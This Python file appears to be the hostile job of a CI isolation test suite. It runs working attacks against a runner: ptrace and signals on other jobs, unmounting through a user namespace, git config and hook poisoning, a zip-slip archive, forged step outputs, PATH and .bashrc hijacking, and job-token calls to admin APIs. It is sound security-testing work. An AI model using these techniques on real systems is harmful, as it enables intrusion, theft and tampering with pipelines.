"""The program of the hostile job: it makes every attack on the targets in `targets.json` and reports the results.

It prints one line for each attempt: `ATTACK` and base64 of JSON with the attack's name, the variant, and the result:
success, the data that were read, or the error. Base64 prevents that masking hides the data. It attacks only what the
targets name. With `gentle`, in a mode without isolation, it does not harm processes that the test needs.
"""

import base64
import contextlib
import ctypes
import io
import json
import os
import signal
import socket
import stat
import subprocess
import sys
import time
import urllib.error
import urllib.request
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

PTRACE_ATTACH, PTRACE_DETACH = 16, 17
MOST_BYTES = 4096
PLANTED = "made-by-another-job"
"""Name of the file that it creates in a folder that it can write to."""
SECONDS = 10
FORGE_SECONDS = 60
FORGED = ("inputs", "outputs")
Variant = tuple[str, Callable[[], bytes | bool]]
"""A variant of an attack: description and action. The action returns the data that it read, or True. Empty data, False
and OSError mean that it failed."""
Targets = dict[str, Any]


def read(path: str) -> Variant:
    """Read a file, or list a folder."""

    def act() -> bytes:
        if os.path.isdir(path):
            return "\n".join(os.listdir(path)).encode()
        descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        try:
            return os.read(descriptor, MOST_BYTES)
        finally:
            os.close(descriptor)

    return f"read {path}", act


def change(path: str) -> Variant:
    """Open a file for writing without writing to it, or create a file in a folder."""

    def act() -> bool:
        if os.path.isdir(path):
            os.close(os.open(f"{path}/{PLANTED}", os.O_WRONLY | os.O_CREAT))
        else:
            os.close(os.open(path, os.O_WRONLY | os.O_APPEND | os.O_NONBLOCK))
        return True

    return f"change {path}", act


def link(path: str) -> Variant:
    """Create a hard link to a file, and read the file by it."""

    def act() -> bytes:
        own = f"link-{os.getpid()}"
        os.link(path, own)
        try:
            return Path(own).read_bytes()[:MOST_BYTES]
        finally:
            os.unlink(own)

    return f"link {path}", act


def unmount(path: str) -> Variant:
    """Remove mounts that hide a file, as root of a new user namespace, and read the file."""
    script = 'for m in $(cut -d" " -f5 /proc/self/mountinfo | sort -r); do umount -l "$m" 2>/dev/null; done; cat "$1"'

    def act() -> bytes:
        words = ["unshare", "--user", "--map-root-user", "--mount", "sh", "-c", script, "sh", path]
        return subprocess.run(words, capture_output=True, timeout=SECONDS, check=False).stdout[:MOST_BYTES]

    return f"unmount what hides {path}", act


def files(*paths: str) -> Iterator[Variant]:
    for path in paths:
        yield read(path)
        yield change(path)


def send(pid: int, number: int) -> Variant:
    def act() -> bool:
        os.kill(pid, number)
        return True

    return f"signal {number} to {pid}", act


def trace(pid: int) -> Variant:
    def act() -> bool:
        libc = ctypes.CDLL(None, use_errno=True)
        if libc.ptrace(PTRACE_ATTACH, pid, None, None) != 0:
            raise OSError(ctypes.get_errno(), "ptrace")
        with contextlib.suppress(ChildProcessError):
            os.waitpid(pid, 0x40000000)
        libc.ptrace(PTRACE_DETACH, pid, None, None)
        return True

    return f"trace {pid}", act


def memory(pid: int) -> Variant:
    def act() -> bool:
        with open(f"/proc/{pid}/mem", "rb"):
            return True

    return f"memory of {pid}", act


def inspect_process(pid: int) -> Iterator[Variant]:
    """Attacks on a process that do not harm it."""
    yield read(f"/proc/{pid}/environ")
    yield memory(pid)
    for name in ("root", "cwd", "fd"):
        yield f"{name} of {pid}", lambda name=name: "\n".join(os.listdir(f"/proc/{pid}/{name}")).encode()  # type: ignore[misc]
    yield send(pid, 0)


def attack_process(pid: int, targets: Targets, *, is_needed: bool) -> Iterator[Variant]:
    """All attacks on a process. With `gentle`, a process that the test needs is not harmed."""
    yield from inspect_process(pid)
    if is_needed and targets["gentle"]:
        return
    yield trace(pid)
    yield send(pid, signal.SIGSTOP if is_needed else signal.SIGTERM)
    yield send(pid, signal.SIGKILL)


def connect(address: str, message: bytes = b"") -> Variant:
    def act() -> bytes | bool:
        with socket.socket(socket.AF_UNIX) as caller:
            caller.settimeout(SECONDS)
            caller.connect(address)
            if not message:
                return True
            caller.sendall(message)
            return caller.recv(MOST_BYTES)

    return f"connect to {address!r}", act


def segment(key: int) -> Variant:
    def act() -> bytes:
        libc = ctypes.CDLL(None, use_errno=True)
        libc.shmat.restype = ctypes.c_void_p
        segment_id = libc.shmget(key, 0, 0)
        address = libc.shmat(segment_id, None, 0o10000) if segment_id >= 0 else None
        if address is None or address == ctypes.c_void_p(-1).value:
            raise OSError(ctypes.get_errno(), "System V shared memory")
        return ctypes.string_at(address, 64).rstrip(b"\0")

    return f"System V segment {key}", act


def call(targets: Targets, method: str, path: str, body: bytes | None = None, **headers: str) -> Variant:
    """Call the cell's HTTP API; a status of 400 and above is a failure."""

    def act() -> bytes:
        fields = {name.replace("_", "-"): value for name, value in headers.items()}
        request = urllib.request.Request(targets["cell"]["url"] + path, body, fields, method=method)
        try:
            with urllib.request.urlopen(request, timeout=SECONDS) as answer:
                return b"%d " % answer.status + bytes(answer.read(MOST_BYTES))
        except urllib.error.HTTPError as error:
            raise OSError(error.code, f"{error.code} {error.reason}") from None

    return f"{method} {path} with {' '.join(headers)}", act


def neighbour_files(targets: Targets) -> Iterator[Variant]:
    other = targets["neighbour"]
    folders = os.path.dirname(other["work"]), os.path.dirname(other["file_variable"]), other["temporary"]
    yield from files(other["work"], other["file_variable"], *folders)
    yield link(other["work"])
    yield unmount(other["work"])


def neighbour_processes(targets: Targets) -> Iterator[Variant]:
    for pid in targets["neighbour"]["pids"]:
        yield from attack_process(pid, targets, is_needed=True)
    yield from attack_process(targets["neighbour"]["helper"], targets, is_needed=False)


def neighbour_command_lines(targets: Targets) -> Iterator[Variant]:
    yield read(f"/proc/{targets['neighbour']['pids'][0]}/cmdline")


def neighbour_private_memory(targets: Targets) -> Iterator[Variant]:
    other = targets["neighbour"]
    yield from files(other["private_tmp"], other["private_shm"])
    yield unmount(other["private_tmp"])
    yield segment(other["key"])


def neighbour_open_memory(targets: Targets) -> Iterator[Variant]:
    other = targets["neighbour"]
    yield read(other["open_tmp"])
    yield read(other["open_shm"])
    yield unmount(other["open_tmp"])
    yield segment(other["key"] + 1)


def neighbour_cache(targets: Targets) -> Iterator[Variant]:
    yield from files(*targets["neighbour"]["caches"])


def neighbour_network(targets: Targets) -> Iterator[Variant]:
    def act() -> bool:
        with socket.create_connection(("127.0.0.1", targets["neighbour"]["port"]), SECONDS):
            return True

    yield "connect to its port", act
    yield connect(f"\0{targets['neighbour']['abstract']}")


def earlier_files(targets: Targets) -> Iterator[Variant]:
    yield from files(targets["earlier"]["work"], os.path.dirname(targets["earlier"]["work"]))


def earlier_cache(targets: Targets) -> Iterator[Variant]:
    yield from files(*targets["earlier"]["caches"])


def earlier_memory(targets: Targets) -> Iterator[Variant]:
    other = targets["earlier"]
    for kind in ("private_tmp", "open_tmp", "private_shm", "open_shm"):
        yield read(other[kind])
    yield segment(other["key"])
    yield segment(other["key"] + 1)


def earlier_processes(targets: Targets) -> Iterator[Variant]:
    for pid in targets["earlier"]["pids"]:
        yield from attack_process(pid, targets, is_needed=False)


def agent_files(targets: Targets) -> Iterator[Variant]:
    yield from files(*targets["agent"]["files"])
    yield unmount(targets["agent"]["files"][0])


def agent_own_job(targets: Targets) -> Iterator[Variant]:
    """The agent's folder of this job is the parent of the folder with the files of its steps."""
    own = Path(os.environ["REMUDA_OUTPUTS"]).parent.parent
    for name in targets["agent"]["names"]:
        yield from files(str(own / name))


def agent_checkout(targets: Targets) -> Iterator[Variant]:
    """Leave programs in the repository that git of the next checkout may run with other rights."""
    command = f"touch {targets['marks']}/by-git; true"
    settings = {"core.fsmonitor": command, "core.sshCommand": command, "filter.evil.smudge": command}
    settings |= {"filter.evil.clean": command, "core.hooksPath": f"{os.getcwd()}/.git/hooks", "diff.external": command}
    with contextlib.suppress(OSError):
        with open(".git/config", "a") as file:
            for name, value in settings.items():
                section, _, key = name.rpartition(".")
                head = f'{section.partition(".")[0]} "evil"' if "." in section else section
                file.write(f'[{head}]\n\t{key} = "{value}"\n')
        Path(".git/info").mkdir(exist_ok=True)
        Path(".git/info/attributes").write_text("* filter=evil\n")
        Path(".git/hooks").mkdir(exist_ok=True)
        for name in ("post-checkout", "reference-transaction", "post-index-change", "pre-auto-gc"):
            Path(".git/hooks", name).write_text(f"#!/bin/sh\n{command}\n")
            Path(".git/hooks", name).chmod(0o755)
    return iter(())


def forge(targets: Targets) -> None:
    """Append forged values to inputs and outputs of all visible steps while the job's own steps run. The process ends
    with the job."""
    mark = ["touch", f"{targets['marks']}/by-forgery"]
    line = json.dumps({"name": "environment", "value": {"exec": [*mark, "--"]}}) + "\n"
    own = os.environ.get("REMUDA_OUTPUTS")
    folders = [Path(own).parent] if own else [Path(path) for path in mount_points() if path.endswith("/exchange")]
    paths = [f"{folder}/step-{number}.{kind}" for folder in folders for number in range(12) for kind in FORGED]
    forged: dict[str, int] = {}
    until = time.monotonic() + FORGE_SECONDS
    while time.monotonic() < until:
        for path in paths:
            with contextlib.suppress(OSError):
                file = os.open(path, os.O_WRONLY | os.O_APPEND)
                try:
                    # Append again after every other write, because the last line counts.
                    if path != own and os.fstat(file).st_size != forged.get(path, 0):
                        os.write(file, line.encode())
                        forged[path] = os.fstat(file).st_size
                finally:
                    os.close(file)


def mount_points() -> list[str]:
    return [line.split()[4] for line in Path("/proc/self/mountinfo").read_text().splitlines()]


def pack(targets: Targets) -> None:
    """Upload an archive for a later job to unpack: a link to an outside folder, a file below it, and names of outside
    files."""
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as archive:
        link = zipfile.ZipInfo("unpacked")
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(link, targets["marks"])
        archive.writestr("unpacked/by-archive", "x")
        archive.writestr(f"{'../' * 30}{targets['marks'].lstrip('/')}/by-archive", "x")
        archive.writestr(f"{targets['marks']}/by-archive", "x")
    head = '--b\r\nContent-Disposition: form-data; name="file"; filename="artifacts.zip"\r\n\r\n'
    body = head.encode() + data.getvalue() + b"\r\n--b--\r\n"
    kind = "multipart/form-data; boundary=b"
    token = os.environ["CI_JOB_TOKEN"]
    path = f"/api/v4/jobs/{os.environ['CI_JOB_ID']}/artifacts"
    call(targets, "POST", path, body, JOB_TOKEN=token, Content_Type=kind)[1]()


def swap(targets: Targets) -> None:
    """Replace the working directory with a link to a folder outside."""
    work = Path.cwd()
    os.chdir("/")
    work.rename(f"{work}.old")
    work.symlink_to(targets["linked"])


def agent_socket(targets: Targets) -> Iterator[Variant]:
    yield connect(targets["agent"]["socket"])


def agent_processes(targets: Targets) -> Iterator[Variant]:
    """Attack the processes of the agent. Other ancestors, such as a terminal, are only inspected."""
    for pid in targets["agent"]["pids"]:
        yield from attack_process(pid, targets, is_needed=True)
    for pid in _ancestors():
        with contextlib.suppress(OSError):
            if pid not in targets["agent"]["pids"] and os.stat(f"/proc/{pid}").st_uid != os.getuid():
                yield from inspect_process(pid)


def agent_descriptors(targets: Targets) -> Iterator[Variant]:
    """Report inherited open files, which were listed before this program opened any."""
    own = (str(Path.cwd()), "/dev/null", "/dev/pts")
    for number, path in sorted(INHERITED.items()):
        if number > 2 and not path.startswith(own):
            yield f"descriptor {number}", lambda path=path: path.encode()  # type: ignore[misc]


def agent_archives(targets: Targets) -> Iterator[Variant]:
    """Leave links for the steps that upload artifacts and caches. The test downloads the files and checks them."""
    Path("out").mkdir(exist_ok=True)
    Path("out/file").symlink_to(targets["canary"])
    Path("report.xml").symlink_to(targets["canary"])
    Path("way").symlink_to(os.path.dirname(targets["canary"]))
    return iter(())


def manager_files(targets: Targets) -> Iterator[Variant]:
    yield from files(*targets["manager"]["files"])
    yield unmount(targets["manager"]["files"][0])


def manager_socket(targets: Targets) -> Iterator[Variant]:
    command = b"status" if targets["gentle"] else b"drain"
    yield connect(targets["manager"]["socket"], b'{"command": "%s"}\n' % command)


def manager_process(targets: Targets) -> Iterator[Variant]:
    yield from attack_process(targets["manager"]["pid"], targets, is_needed=True)


def cell_files(targets: Targets) -> Iterator[Variant]:
    yield from files(*targets["cell"]["files"])
    yield unmount(targets["cell"]["files"][0])


def cell_process(targets: Targets) -> Iterator[Variant]:
    yield from attack_process(targets["cell"]["pid"], targets, is_needed=True)


def control_calls(targets: Targets) -> Iterator[Variant]:
    """A permitted call with the job's token, which shows that the cell can be reached."""
    yield call(targets, "GET", "/api/v4/job", JOB_TOKEN=os.environ["CI_JOB_TOKEN"])


def cell_calls(targets: Targets) -> Iterator[Variant]:
    token, cell = os.environ["CI_JOB_TOKEN"], targets["cell"]
    own, other, job = cell["own_project"], cell["other_project"], cell["other_job"]
    paths = [
        "/user",
        "/users",
        "/runners/all",
        "/admin/ci/variables",
        "/audit_events",
        "/personal_access_tokens",
        f"/projects/{own}/variables",
        f"/projects/{own}/triggers",
        f"/projects/{own}/audit_events",
        f"/projects/{other}",
        f"/projects/{other}/variables",
        f"/projects/{other}/jobs",
        f"/projects/{other}/jobs/{job}",
        f"/projects/{other}/jobs/{job}/trace",
        f"/projects/{other}/jobs/{job}/artifacts",
        f"/projects/{other}/repository/branches",
        f"/jobs/{job}/artifacts",
    ]
    headers = ("JOB_TOKEN", "PRIVATE_TOKEN", "Authorization")
    for path in paths:
        for name in headers:
            word = f"Bearer {token}" if name == "Authorization" else token
            yield call(targets, "GET", f"/api/v4{path}", None, **{name: word})
    for path in (f"/policies/project/{own}", f"/jobs/{job}/steps", "/audit_events"):
        yield call(targets, "GET", f"/api/remuda/v1{path}", JOB_TOKEN=token)
    state = json.dumps({"token": token, "state": "success"}).encode()
    kind = {"Content_Type": "application/json"}
    yield call(targets, "PUT", f"/api/v4/jobs/{job}", state, JOB_TOKEN=token, **kind)
    yield call(targets, "PATCH", f"/api/v4/jobs/{job}/trace", b"forged", JOB_TOKEN=token, Content_Range="0-5")
    yield call(targets, "PUT", f"/api/remuda/v1/policies/project/{own}", b'{"document": {}}', JOB_TOKEN=token, **kind)
    variable = b'{"key": "STOLEN", "value": "x"}'
    yield call(targets, "POST", f"/api/v4/projects/{own}/variables", variable, JOB_TOKEN=token, **kind)
    runner = b'{"runner_type": "instance_type"}'
    yield call(targets, "POST", "/api/v4/user/runners", runner, JOB_TOKEN=token, **kind)
    trigger = json.dumps({"token": token, "ref": "main"}).encode()
    yield call(targets, "POST", f"/api/v4/projects/{other}/trigger/pipeline", trigger, **kind)


def cell_repositories(targets: Targets) -> Iterator[Variant]:
    word = base64.b64encode(f"gitlab-ci-token:{os.environ['CI_JOB_TOKEN']}".encode()).decode()
    for path, service in (("other_path", "upload-pack"), ("other_path", "receive-pack"), ("own_path", "receive-pack")):
        address = f"/{targets['cell'][path]}.git/info/refs?service=git-{service}"
        yield call(targets, "GET", address, Authorization=f"Basic {word}")


def cell_old_token(targets: Targets) -> Iterator[Variant]:
    old, job = targets["earlier"]["token"], targets["earlier"]["job"]
    yield call(targets, "GET", "/api/v4/job", JOB_TOKEN=old)
    yield call(targets, "GET", f"/api/v4/jobs/{job}/artifacts", JOB_TOKEN=old)
    yield call(targets, "PATCH", f"/api/v4/jobs/{job}/trace", b"forged", JOB_TOKEN=old, Content_Range="0-5")
    word = base64.b64encode(f"gitlab-ci-token:{old}".encode()).decode()
    address = f"/{targets['cell']['earlier_path']}.git/info/refs?service=git-upload-pack"
    yield call(targets, "GET", address, Authorization=f"Basic {word}")


def machine_engine(targets: Targets) -> Iterator[Variant]:
    yield connect(targets["engine"])


def machine_root(targets: Targets) -> Iterator[Variant]:
    def act() -> bool:
        output = subprocess.run([targets["as_root"], "-u"], capture_output=True, timeout=SECONDS, check=False).stdout
        return output.strip() == b"0"

    yield "run a set-user-ID program", act


def policy_inserted(targets: Targets) -> Iterator[Variant]:
    """Prepare programs and variables for the inserted step after the job. The log of that step shows the result."""
    folder = Path.cwd() / "evil"
    folder.mkdir(exist_ok=True)
    for name in ("git", "env", "id", "sh"):
        (folder / name).write_text("#!/bin/sh\necho INTERCEPTED\n")
        (folder / name).chmod(0o755)
    with contextlib.suppress(OSError):
        for name in (".bashrc", ".profile", ".bash_profile"):
            Path(os.environ["HOME"], name).write_text("echo INTERCEPTED\n")
    exported = {"PATH": f"{folder}:{os.environ['PATH']}", "BASH_ENV": f"{folder}/sh", "ENV": f"{folder}/sh"}
    with open(os.environ["REMUDA_EXPORTS"], "a") as file:
        for name, value in exported.items():
            file.write(json.dumps({"name": name, "value": value}) + "\n")
    return iter(())


def policy_results(targets: Targets) -> Iterator[Variant]:
    """Write false outputs of the step."""
    with open(os.environ["REMUDA_OUTPUTS"], "a") as file:
        for name, value in (("policy", {"enforced": ["lie"]}), ("status", "success"), ("origin", "inserted")):
            file.write(json.dumps({"name": name, "value": value}) + "\n")
    return iter(())


ATTACKS = (
    neighbour_files,
    neighbour_command_lines,
    neighbour_private_memory,
    neighbour_open_memory,
    neighbour_cache,
    neighbour_network,
    neighbour_processes,
    earlier_files,
    earlier_cache,
    earlier_memory,
    earlier_processes,
    agent_files,
    agent_own_job,
    agent_checkout,
    agent_socket,
    agent_descriptors,
    agent_archives,
    manager_files,
    manager_socket,
    cell_files,
    control_calls,
    cell_calls,
    cell_repositories,
    cell_old_token,
    machine_engine,
    machine_root,
    agent_processes,
    manager_process,
    cell_process,
    policy_inserted,
    policy_results,
)
OTHERS = {"forge": forge, "pack": pack, "swap": swap}
"""Actions of separate jobs and processes, by the argument before the targets."""
INHERITED: dict[int, str] = {}


def _list_descriptors() -> dict[int, str]:
    descriptors = {}
    for name in os.listdir("/proc/self/fd"):
        with contextlib.suppress(OSError):
            descriptors[int(name)] = os.readlink(f"/proc/self/fd/{name}")
    return descriptors


def _ancestors() -> Iterator[int]:
    pid = os.getppid()
    while pid > 1:
        yield pid
        try:
            line = Path(f"/proc/{pid}/stat").read_text()
        except OSError:
            return
        pid = int(line[line.rindex(")") + 2 :].split()[1])


def main() -> None:
    INHERITED.update(_list_descriptors())
    action, targets = sys.argv[-2], json.loads(Path(sys.argv[-1]).read_text())
    if action in OTHERS:
        OTHERS[action](targets)
        return
    for attack in ATTACKS:
        for variant, act in attack(targets):
            report: dict[str, Any] = {"attack": attack.__name__.replace("_", ".", 1), "variant": variant}
            try:
                result = act()
            except (OSError, subprocess.SubprocessError) as error:
                report |= {"worked": False, "error": str(error)}
            else:
                data = result.decode(errors="replace") if isinstance(result, bytes) else ""
                report |= {"worked": bool(result), "read": data}
            sys.stdout.write(f"ATTACK {base64.b64encode(json.dumps(report).encode()).decode()}\n")
            sys.stdout.flush()
    sys.stdout.write("ATTACKS ENDED\n")


if __name__ == "__main__":
    main()
